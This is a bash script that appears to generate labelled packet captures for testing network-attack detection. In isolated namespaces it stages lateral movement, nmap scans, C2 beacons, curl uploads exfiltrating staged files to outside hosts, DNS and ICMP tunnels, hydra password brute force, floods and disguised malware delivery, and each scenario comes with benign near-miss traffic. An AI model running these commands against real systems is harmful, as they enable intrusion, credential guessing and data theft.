# shellcheck shell=bash
# Captures in which something happens, and their near misses.

record_lateral_movement() {
    net_up
    host_up fs 10
    host_up app 11
    host_up term 20
    host_up mgmt 21
    host_up ws-50 50
    host_up ws-66 66
    text_file "$WORK/share/plan.txt" 40000
    text_file "$WORK/www/index.html" 6000
    smb_up fs data "$WORK/share"
    ssh_up fs
    ssh_up app
    web_up app app "$WORK/www" 80
    sed "s|^LogFile=.*|LogFile=$WORK/xrdp.file.log|" /etc/xrdp/xrdp.ini >"$WORK/xrdp.ini"
    daemon term xrdp /usr/sbin/xrdp --nodaemon --config "$WORK/xrdp.ini"
    daemon mgmt winrm "$HERE/client.py" serve --port 5985 --reply 900
    wait_port term any 3389
    wait_port mgmt any 5985
    capture_on sw br0 "$RAW"
    on ws-50 curl -s -o /dev/null "http://$LAN4.11/"
    smb ws-50 "$LAN4.10" data 'ls' >/dev/null
    sleep 2
    on ws-66 nmap -n -Pn -sS -T4 --max-retries 1 --top-ports 100 "$LAN4.10,11,20,21" >"$WORK/nmap.txt"
    sleep 2
    on ws-66 nmap -n -Pn -sT -p 22,445,3389,5985,5986 "$LAN4.10,11,20,21" >>"$WORK/nmap.txt"
    sleep 3
    ssh_to ws-66 "$LAN4.11" 'uname -n; sleep 1; id' >/dev/null
    sleep 2
    ssh_to ws-66 "$LAN4.10" 'uname -n; sleep 1; id' >/dev/null
    sleep 1
    on ws-66 smbclient -s /dev/null -N -L "$LAN4.10" >/dev/null
    smb ws-66 "$LAN4.10" data "ls; get plan.txt $WORK/stolen.txt; put $WORK/stolen.txt notes.txt" >/dev/null 2>&1
    sleep 2
    on ws-66 nmap -n -Pn -p 3389 --script rdp-ntlm-info "$LAN4.20" >>"$WORK/nmap.txt"
    sleep 1
    local i
    for i in 1 2 3; do
        on ws-66 curl -s -o /dev/null -A 'Microsoft WinRM Client' -H 'Content-Type: application/soap+xml' \
            -d "<s:Envelope><s:Body>Command $i</s:Body></s:Envelope>" "http://$LAN4.21:5985/wsman"
        sleep 1
    done
    capture_end
}

# Twenty ports, one short of a scan, then the same privileged services.
record_near_miss_port_scan() {
    net_up
    host_up fs 10
    host_up ws-67 67
    text_file "$WORK/share/plan.txt" 40000
    smb_up fs data "$WORK/share"
    ssh_up fs
    capture_on sw br0 "$RAW"
    on ws-67 nmap -n -Pn -sT -T4 --max-retries 0 \
        -p 21-23,25,53,80,110,111,135,139,143,199,443,445,587,993,995,3306,3389,8080 "$LAN4.10" >"$WORK/nmap.txt"
    sleep 2
    ssh_to ws-67 "$LAN4.10" 'uname -n; sleep 1; id' >/dev/null
    smb ws-67 "$LAN4.10" data ls >/dev/null
    capture_end
}

record_horizontal_scan() {
    net_up
    host_up ws-99 99
    ip -n "$NET-rt" route add blackhole 10.9.0.0/24
    ip -n "$NET-rt" route add 10.9.0.16/30 via 192.0.2.2
    ip -n "$NET-out" route add local 10.9.0.16/30 dev lo
    mkdir -p "$WORK/share"
    smb_up out data "$WORK/share"
    capture_on sw br0 "$RAW"
    on ws-99 nmap -n -Pn -sS -p 445 --max-rate 40 --max-retries 1 10.9.0.0/24 >"$WORK/nmap.txt"
    sleep 2
    smb ws-99 10.9.0.17 data ls >/dev/null
    capture_end
}

# c2_office: two people who fetch pages while the beacon runs.
c2_office() {
    text_file "$WORK/site/index.html" 1500
    local n
    for n in 1 2 3 4 5 6; do text_file "$WORK/site/asset$n.css" $((n * 700)); done
    host_up ws-21 21
    host_up ws-22 22
    web_up out site "$WORK/site" 198.51.100.10:80
    wait_port out any 80
    daemon ws-21 ws-21 "$HERE/client.py" browse --seed 21 --seconds 200 -- http://198.51.100.10
    daemon ws-22 ws-22 "$HERE/client.py" browse --seed 22 --seconds 150 -- http://198.51.100.10
}

record_c2_beacon_http() {
    net_up
    host_up ws-50 50
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" 203.0.113.66:80
    capture_on sw br0 "$RAW"
    c2_office
    on ws-50 "$HERE/client.py" poll --seed 50 --every 20 --jitter 0.15 --count 16 -- \
        -A 'Mozilla/4.0' http://203.0.113.66/api/tasks.json
    capture_end
}

# A lean TLS client: one group, one suite, no ALPN. Its handshake and request stay below 500 bytes.
record_c2_beacon_https() {
    net_up
    host_up ws-51 51
    tls_up update.invalid
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" '203.0.113.67:443 ssl'
    capture_on sw br0 "$RAW"
    c2_office
    on ws-51 "$HERE/client.py" poll --seed 51 --every 20 --jitter 0.1 --count 16 -- --tlsv1.3 --no-alpn \
        --curves X25519 --tls13-ciphers TLS_AES_128_GCM_SHA256 --http1.0 -A x -H 'Accept:' -H 'Host:' \
        https://203.0.113.67/api/tasks.json
    capture_end
}

# The same poll by a client as it comes: its handshake alone exceeds what a poll may send.
record_near_miss_https_poll() {
    net_up
    host_up ws-52 52
    tls_up update.invalid
    text_file "$WORK/c2/api/tasks.json" 2400
    web_up out c2 "$WORK/c2" '203.0.113.68:443 ssl'
    capture_on sw br0 "$RAW"
    on ws-52 "$HERE/client.py" poll --seed 52 --every 20 --jitter 0.1 --count 12 -- \
        https://203.0.113.68/api/tasks.json
    capture_end
}

record_c2_beacon_ipv6() {
    net_up
    host_up ws-53 53
    text_file "$WORK/c2/api/tasks.json" 2000
    web_up out c2 "$WORK/c2" '[2001:db8:66::66]:8080'
    wait_port out any 8080
    capture_on sw br0 "$RAW"
    on ws-53 "$HERE/client.py" poll --seed 53 --every 15 --jitter 0.1 --count 12 -- \
        -A 'Mozilla/4.0' -g 'http://[2001:db8:66::66]:8080/api/tasks.json'
    capture_end
}

record_exfiltration() {
    net_up
    host_up fs 10
    host_up ftp 11
    host_up backup 12
    host_up ws-77 77
    zero_file "$WORK/share/projects.tar" 360M
    zero_file "$WORK/pub/scans.tar" 150M
    zero_file "$WORK/dump/db.dump" 180M
    zero_file "$WORK/stage/part" 186M
    zero_file "$WORK/stage/rest" 60M
    smb_up fs data "$WORK/share"
    ftp_up ftp "$WORK/pub"
    rsync_up backup dump "$WORK/dump"
    ssh_up out
    daemon out sink "$HERE/client.py" serve --port 80
    wait_port out any 80
    merge_segments
    # Long enough for the answer that names the port of an FTP transfer.
    capture_on sw br0 "$RAW" -s 128
    smb ws-77 "$LAN4.10" data 'get projects.tar /dev/null' >/dev/null 2>&1
    sleep 4
    on ws-77 curl -s -o /dev/null "ftp://$LAN4.11/scans.tar"
    sleep 4
    on ws-77 rsync --sparse "rsync://$LAN4.12/dump/db.dump" "$WORK/stage/"
    sleep 10
    local to
    for to in 203.0.113.21 198.51.100.34 203.0.113.150 198.51.100.77 203.0.113.9 198.51.100.201; do
        on ws-77 curl -s -o /dev/null -T "$WORK/stage/part" "http://$to/incoming/part.bin"
        sleep 4
    done
    ssh_to ws-77 203.0.113.222 'cat >/dev/null' <"$WORK/stage/rest"
    capture_end
}

# One client of iodine for each type of record that it knows, all below one domain: pings through the
# tunnel, then a file that does not compress.
record_dns_tunnel() {
    net_up
    local types=(null private txt srv mx cname a) type n=31
    daemon out iodined iodined -f -c -P secret -l 203.0.113.53 172.31.99.1/27 t.tunnel.example
    sleep 1
    daemon out sink "$HERE/client.py" serve --port 80
    wait_port out any 80
    head -c 12000 /dev/zero | openssl enc -aes-128-ctr -K 00 -iv 00 -out "$WORK/loot" 2>/dev/null
    for type in "${types[@]}"; do
        host_up "ws-$type" "$n"
        n=$((n + 1))
    done
    capture_on sw br0 "$RAW"
    local workers=()
    for type in "${types[@]}"; do
        dns_tunnel "ws-$type" "$type" &
        workers+=("$!")
    done
    wait "${workers[@]}"
    capture_end
}

# dns_tunnel HOST TYPE
dns_tunnel() {
    local tries
    daemon "$1" "iodine-$2" iodine -f -r -T "$2" -P secret -m 300 203.0.113.53 t.tunnel.example
    for tries in $(seq 300); do
        if on "$1" ip -4 addr show dns0 2>/dev/null | grep -q inet; then break; fi
        sleep 0.1
    done
    on "$1" ping -q -c 20 -i 0.5 -s 120 172.31.99.1 >"$WORK/ping-$2.txt" || true
    on "$1" curl -s -m 30 -o /dev/null -T "$WORK/loot" http://172.31.99.1/in || true
    echo "$2: $tries, $(grep -h received "$WORK/ping-$2.txt")" >&2
}

record_syn_flood() {
    "$GENERATOR" syn-flood --packets 9000 --sources 9000 --rate 220 --dst 10.1.0.80 --dst-port 443 \
        --real-flows 40 --seed 1 --out "$RAW"
}

record_udp_flood_many_to_one() {
    "$GENERATOR" many-to-one --packets 84000 --sources 200 --rate 2100 --dst 10.1.0.81 --dst-port 27015 \
        --payload 8900 --snaplen 60 --seed 2 --out "$RAW"
}

# A program that is called a picture, from a host that nobody knows; what it would do once it runs: call
# another that nobody knows. Before and beside it, people read pages.
record_malware_delivery() {
    net_up
    local n
    for n in 60 61 62; do host_up "ws-$n" "$n"; done
    text_file "$WORK/news/index.html" 4000
    text_file "$WORK/news/asset1.css" 900
    windows_program "$WORK/files/img/banner.png" 48000
    web_up out news "$WORK/news" 203.0.113.10:80
    web_up out files "$WORK/files" 203.0.113.60:80
    daemon out gate "$HERE/client.py" serve --address 198.51.100.66 --port 8080 --reply 30
    dns_up out resolver --listen-address=198.51.100.53 --bind-interfaces --address=/news.example/203.0.113.10 \
        --address=/files.example/203.0.113.60 --address=/gate.example/198.51.100.66
    for n in 60 61 62; do use_resolver "ws-$n" 198.51.100.53; done
    wait_port out any 8080
    wait_port out any 80
    capture_on sw br0 "$RAW"
    for n in 60 61 62; do fetch "ws-$n" http://news.example/index.html http://news.example/asset1.css; done
    sleep 3
    fetch ws-60 http://files.example/img/banner.png
    sleep 4
    on ws-60 "$HERE/client.py" poll --seed 60 --every 12 --jitter 0.5 --count 6 -- \
        -d 'id=ws-60' http://gate.example:8080/gate &
    local beacon=$!
    for n in 1 2 3; do
        sleep 15
        fetch ws-61 http://news.example/index.html
        fetch ws-62 http://news.example/asset1.css
    done
    wait "$beacon"
    capture_end
}

# Five hosts update themselves with apt over HTTP; then one of them reads a site nobody has read before.
# Nobody but the first two fetched from where hardly anybody does.
record_near_miss_updates() {
    net_up
    local n
    for n in 71 72 73 74 75; do host_up "ws-$n" "$n"; done
    text_file "$WORK/site/index.html" 3000
    package_mirror "$WORK/mirror"
    web_up out mirror "$WORK/mirror" 203.0.113.30:80
    web_up out site "$WORK/site" 203.0.113.31:80
    dns_up out resolver --listen-address=198.51.100.53 --bind-interfaces \
        --address=/mirror.example/203.0.113.30 --address=/new.example/203.0.113.31
    for n in 71 72 73 74 75; do use_resolver "ws-$n" 198.51.100.53; done
    wait_port out any 80
    capture_on sw br0 "$RAW"
    for n in 71 72 73 74 75; do
        update_packages "ws-$n" http://mirror.example/
        sleep 4
    done
    for n in 2 9 4 16 1; do
        fetch ws-75 http://new.example/index.html
        sleep "$n"
    done
    capture_end
}

# From outside, sixty passwords of which the last is right; beside it an administrator works.
record_ssh_brute_force() {
    net_up
    host_up app 11
    host_up admin 40
    user_up app clerk Hvid-7-Elefant
    ssh_up app -o PasswordAuthentication=yes -o MaxStartups=100
    wordlist "$WORK/words" 59 Hvid-7-Elefant
    capture_on sw br0 "$RAW"
    ssh_to admin "$LAN4.11" 'for i in 1 2 3; do uptime; sleep 4; done' >/dev/null &
    local admin=$!
    on out hydra -I -q -t 4 -s 22 -l clerk -P "$WORK/words" -o "$WORK/found.txt" "ssh://$LAN4.11" >"$WORK/hydra.log" 2>&1
    grep -q Hvid "$WORK/found.txt"
    ssh_typed out "$LAN4.11" clerk Hvid-7-Elefant
    wait "$admin"
    capture_end
}

# Three wrong passwords, twice; then the right one. A monitor fetches the host key beside it.
record_near_miss_ssh() {
    net_up
    host_up app 11
    host_up monitor 30
    host_up admin 40
    user_up app clerk Hvid-7-Elefant
    ssh_up app -o PasswordAuthentication=yes
    capture_on sw br0 "$RAW"
    for _ in $(seq 15); do
        on monitor ssh-keyscan -t ed25519 "$LAN4.11"
        sleep 2
    done >/dev/null 2>&1 &
    local monitor=$!
    ssh_typed admin "$LAN4.11" clerk Hvid-Elefant Hvid-6-Elefant hvid-7-elefant
    ssh_typed admin "$LAN4.11" clerk Hvid-8-Elefant Hvid-7-Elfant Elefant-7-Hvid
    ssh_typed admin "$LAN4.11" clerk Hvid-7-Elefant
    wait "$monitor"
    capture_end
}

# A list of passwords against FTP, none of which is right.
record_ftp_brute_force() {
    net_up
    host_up ftp 12
    host_up ws-64 64
    user_up ftp clerk Hvid-7-Elefant
    mkdir -p "$WORK/pub"
    ftp_up ftp "$WORK/pub" local_enable=YES
    wordlist "$WORK/words" 70 summer0
    capture_on sw br0 "$RAW"
    on ws-64 hydra -I -q -t 4 -l clerk -P "$WORK/words" "ftp://$LAN4.12" >"$WORK/hydra.log" 2>&1
    capture_end
}

# HTTP through echo messages, with ptunnel-ng at both ends; the far end's kernel leaves them to it.
record_icmp_tunnel() {
    net_up
    host_up ws-65 65
    text_file "$WORK/site/index.html" 30000
    web_up out site "$WORK/site" 127.0.0.1:80
    on out sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    daemon out proxy ptunnel-ng -r127.0.0.1 -R80
    daemon ws-65 client ptunnel-ng -p192.0.2.2 -l8000 -r127.0.0.1 -R80
    wait_port out any 80
    wait_port ws-65 any 8000
    capture_on sw br0 "$RAW"
    local n
    for n in 1 2 3; do
        on ws-65 curl -q -s -o /dev/null --max-time 20 http://127.0.0.1:8000/index.html
        sleep 2
    done
    capture_end
}

# What people and monitors do with echo messages: the usual, large, of every size, in a flood, along the way.
record_near_miss_ping() {
    net_up
    local n
    host_up monitor 30
    host_up admin 40
    capture_on sw br0 "$RAW"
    on monitor ping -q -i 0.5 -c 60 -s 200 -p feedbeef 203.0.113.80 >/dev/null &
    local monitor=$!
    on admin ping -q -i 0.2 -c 50 203.0.113.81 >/dev/null
    on admin ping -q -i 0.1 -c 60 -s 1400 203.0.113.82 >/dev/null
    for n in $(seq 1300 8 1472); do on admin ping -q -M 'do' -c 1 -s "$n" 203.0.113.83 >/dev/null || true; done
    on admin ping -q -f -c 150 203.0.113.84 >/dev/null
    on admin ping -q -6 -i 0.2 -c 30 -s 512 2001:db8:80::80 >/dev/null
    on admin traceroute -I -n -q 3 203.0.113.85 >/dev/null 2>&1 || true
    wait "$monitor"
    capture_end
}

# Services on ports that are known for others; HTTP and TLS on high ports beside them, as is usual.
record_wrong_port() {
    net_up
    host_up ws-68 68
    text_file "$WORK/site/index.html" 2000
    tls_up odd.example
    web_up out site "$WORK/site" 203.0.113.68:53 203.0.113.68:22 203.0.113.69:8443 203.0.113.69:9999 \
        '203.0.113.70:9443 ssl' '203.0.113.70:21 ssl'
    ssh_up out -o ListenAddress=203.0.113.71:443 -o ListenAddress=203.0.113.72:22
    wait_port out any 9443
    wait_port out any 443
    capture_on sw br0 "$RAW"
    local url
    for url in http://203.0.113.68:53/ http://203.0.113.68:22/ http://203.0.113.69:8443/ http://203.0.113.69:9999/ \
        https://203.0.113.70:9443/ https://203.0.113.70:21/; do
        on ws-68 curl -q -s -k -o /dev/null "$url"
        sleep 1
    done
    ssh_to ws-68 -p 443 203.0.113.71 'uname -n; id' >/dev/null
    ssh_to ws-68 203.0.113.72 'uname -n; id' >/dev/null
    capture_end
}
